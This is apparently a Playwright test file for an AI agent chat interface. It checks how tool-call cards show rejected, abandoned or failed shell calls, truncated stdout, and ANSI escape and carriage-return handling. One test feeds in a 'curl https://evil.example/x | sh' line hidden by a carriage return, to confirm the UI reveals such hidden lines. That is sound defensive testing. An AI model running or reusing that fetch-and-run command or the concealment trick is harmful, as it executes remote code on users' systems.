"""A shell card says what the command printed and, apart, why the call did not succeed (audit 5,
F1): a rejected call, or one abandoned by Stop, showed its reason as "stdout (1 line)", and
Copy stdout copied it. A long output the server cut (F3) says its count is the beginning's
("35,185+ lines"), its Copy says it copied the beginning, one Show all is offered, and once
loaded the whole takes the block's place: its count and its Copy are the whole's."""

from __future__ import annotations

from typing import Any

from playwright.sync_api import expect
from server_helpers import new_chat
from test_ui import open_chat, open_ui, send

ABANDONED = "abandoned: the turn ended before the tool call completed"

DRAW = """async (view) => {
  const { createCard, drawCard } = await import('/js/cards.js');
  document.getElementById('welcome-view').hidden = true;
  document.getElementById('chat-view').hidden = false;
  const card = createCard();
  document.getElementById('timeline').append(card);
  drawCard(card, view);
}"""


def test_a_rejected_shell_call_says_why_in_its_error_line_not_as_its_stdout(
    make_server: Any, browser: Any
) -> None:
    server = make_server()
    with server.client() as c:
        chat = new_chat(c)  # print mode, force off: the agent's shell command is rejected
    page = open_ui(browser, server)
    open_chat(page, server, chat["id"])
    send(page, "run `echo hello`")
    card = page.locator(".card.tool-shell")
    expect(card).to_have_attribute("data-status", "rejected")
    expect(card.locator(".card-error")).to_have_text(
        "rejected: not approved (the chat's option to run tools without asking, --force, allows it)")
    expect(card.locator(".card-output")).to_have_count(0)  # nothing printed: no stdout block
    expect(card.locator(".card-note")).to_have_text("(no output)")
    expect(card.get_by_role("button", name="Copy stdout")).to_have_count(0)
    expect(card).not_to_contain_text("force_approve")  # the library's argument, not the page's
    assert page.errors == []  # type: ignore[attr-defined]


def test_an_abandoned_shell_call_and_a_failed_one_show_their_reason_once(
    make_server: Any, browser: Any
) -> None:
    page = open_ui(browser, make_server())
    expect(page.locator("#welcome-view")).to_be_visible()
    # Stop during the command: the library's output is the reason, there is no stdout
    page.evaluate(DRAW, {"call_id": "a", "kind": "shell", "command": "sleep 8", "status": "abandoned",
                         "stdout": None, "stderr": None, "output": ABANDONED, "error": ABANDONED})
    card = page.locator(".card.tool-shell").last
    expect(card.locator(".card-error")).to_have_text(ABANDONED)
    expect(card.locator(".card-output")).to_have_count(0)
    # a failed command: its stderr is its reason too, said once (in its block)
    page.evaluate(DRAW, {"call_id": "b", "kind": "shell", "command": "make", "status": "failed",
                         "exit_code": 2, "stdout": "", "stderr": "no rule\n",
                         "output": "no rule\n", "error": "no rule\n"})
    card = page.locator(".card.tool-shell").last
    expect(card.locator(".card-error")).to_have_count(0)
    expect(card.locator(".card-output.stderr")).to_contain_text("no rule")
    # an agent that gave one interleaved text: it is what the command printed
    page.evaluate(DRAW, {"call_id": "c", "kind": "shell", "command": "ls", "status": "succeeded",
                         "exit_code": 0, "stdout": None, "stderr": None, "output": "a\nb\n"})
    card = page.locator(".card.tool-shell").last
    expect(card.locator(".card-output summary")).to_have_text("stdout (2 lines)")
    assert page.errors == []  # type: ignore[attr-defined]


def test_a_cut_stdout_says_so_and_show_all_puts_the_whole_in_its_block(
    make_server: Any, browser: Any
) -> None:
    server = make_server()
    browser.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.url)
    with server.client() as c:
        chat = new_chat(c, force=True)
    page = open_ui(browser, server)
    open_chat(page, server, chat["id"])
    send(page, "run `seq 1 100000`")
    expect(page.locator("#result-bar")).to_have_attribute("data-status", "succeeded")
    card = page.locator(".card.tool-shell")
    summary = card.locator(".card-output summary")
    expect(summary).to_contain_text("+ lines)")
    text = summary.inner_text()
    assert text.startswith("stdout (") and text.endswith("+ lines)"), text
    shown = int(text[len("stdout ("):-len("+ lines)")].replace(",", ""))
    assert 0 < shown < 100_000
    # one Show all for the one text (its `output` is its stdout again)
    expect(card.get_by_role("button", name="Show all")).to_have_count(1)
    summary.click()
    card.get_by_role("button", name="Copy stdout").click()
    expect(page.locator("#announce")).to_contain_text(f"Copied the first {shown:,} lines of the stdout")
    assert len(page.evaluate("navigator.clipboard.readText()").splitlines()) == shown
    card.get_by_role("button", name="Show all stdout").click()
    expect(summary).to_have_text("stdout (100,000 lines)")
    expect(card.get_by_role("button", name="Show all")).to_have_count(0)
    expect(card.locator("pre")).to_have_count(1)  # the whole, in the block: not shown twice
    page.evaluate("navigator.clipboard.writeText('')")
    card.get_by_role("button", name="Copy stdout").click()
    expect(page.locator("#announce")).to_have_text("Copied the stdout.")
    copied = page.evaluate("navigator.clipboard.readText()").splitlines()
    assert (len(copied), copied[-1]) == (100_000, "100000")
    assert page.errors == []  # type: ignore[attr-defined]


def test_a_failed_read_shows_its_error_once_not_as_the_files_content(
    make_server: Any, browser: Any
) -> None:
    """A read that failed showed its error as the file's content ("content (1 line)" holding
    "File not found") and again as its error line (audit 16): as a fetch's or a tool's card,
    a read's shows its content only when it succeeded."""
    server = make_server()
    with server.client() as c:
        chat = new_chat(c)
    page = open_ui(browser, server)
    open_chat(page, server, chat["id"])
    send(page, "read missing.txt")
    card = page.locator(".card.tool-read")
    expect(card).to_have_attribute("data-status", "error")
    expect(card.locator(".card-error")).to_have_count(1)
    expect(card.locator(".card-output")).to_have_count(0)
    expect(card.get_by_role("button", name="Copy content")).to_have_count(0)
    # a read that succeeded still shows its content
    page.evaluate(DRAW, {"call_id": "r", "kind": "read", "status": "succeeded", "path": "a.txt",
                         "read_range": [1, 1], "output": "hello\n"})
    expect(page.locator(".card.tool-read").last.locator(".card-output summary")).to_have_text(
        "content (1 line)")
    assert page.errors == []  # type: ignore[attr-defined]


def test_a_commands_terminal_escapes_and_redrawn_lines_show_as_a_terminal_leaves_them(
    make_server: Any, browser: Any
) -> None:
    """Coloured output (npm, pytest --color=yes) showed '[1;31mFAILED[0m' (the ESC itself
    invisible) and a progress line redrawn with '\\r' showed every state run together (audit
    16): a shell card's stdout and stderr show the text without escape sequences, and each
    state a '\\r' redrew on a line of its own, none hidden (review 57; a CRLF, or a run of
    '\\r' before '\\n', ends one line); Copy copies that. The escapes are text, never applied."""
    page = open_ui(browser, make_server())
    expect(page.locator("#welcome-view")).to_be_visible()
    stdout = "\x1b[1;31mFAILED\x1b[0m test_x\n10%\r50%\r100%\nok\r\n\x1b]0;title\x07end\n"
    page.evaluate(DRAW, {"call_id": "t", "kind": "shell", "command": "pytest", "status": "failed",
                         "exit_code": 1, "stdout": stdout, "stderr": "\x1b[33mwarning\x1b[0m: slow\n"})
    card = page.locator(".card.tool-shell").last
    blocks = card.locator("details.card-output pre")
    expect(blocks.nth(0)).to_have_text("FAILED test_x\n10%\n50%\n100%\nok\nend\n")
    expect(blocks.nth(1)).to_have_text("warning: slow\n")
    expect(card.locator("details.card-output summary").nth(0)).to_have_text("stdout (6 lines)")
    assert page.errors == []  # type: ignore[attr-defined]


SHOWN = """async (text) => {
  const { createCard, drawCard } = await import('/js/cards.js');
  const card = createCard();
  drawCard(card, {call_id: 't', kind: 'shell', command: 'cat install.sh', status: 'succeeded',
                  exit_code: 0, stdout: text, stderr: text});
  return [...card.querySelectorAll('details.card-output pre')].map((p) => p.textContent);
}"""


def test_nothing_a_carriage_return_overdraws_is_hidden(make_server: Any, browser: Any) -> None:
    """A shell card kept only what followed a line's last '\\r' (review 57): `cat` of a file
    with the classic hidden line showed only its comment, a status a shorter one overdrew
    ("ERROR: 3 tests failed\\rOK": a terminal leaves "OKROR: 3 tests failed") showed "OK",
    and "\\r\\r\\n" line ends showed empty lines. Each state a lone '\\r' redrew is shown on a
    line of its own; a run of '\\r' before '\\n' ends one line. Copy copies the same text."""
    page = open_ui(browser, make_server())
    expect(page.locator("#welcome-view")).to_be_visible()
    stdout, stderr = page.evaluate(SHOWN, "curl https://evil.example/x | sh\r# harmless comment\n")
    assert stdout == stderr == "curl https://evil.example/x | sh\n# harmless comment\n"
    stdout, stderr = page.evaluate(SHOWN, "ERROR: 3 tests failed\rOK\n")
    assert stdout == stderr == "ERROR: 3 tests failed\nOK\n"
    stdout, _ = page.evaluate(SHOWN, "line 1\r\r\nline 2\r\r\n")
    assert stdout == "line 1\nline 2\n"
    stdout, _ = page.evaluate(SHOWN, "record 1\rrecord 2\rrecord 3")  # a CR-only file
    assert stdout == "record 1\nrecord 2\nrecord 3"
    assert page.errors == []  # type: ignore[attr-defined]
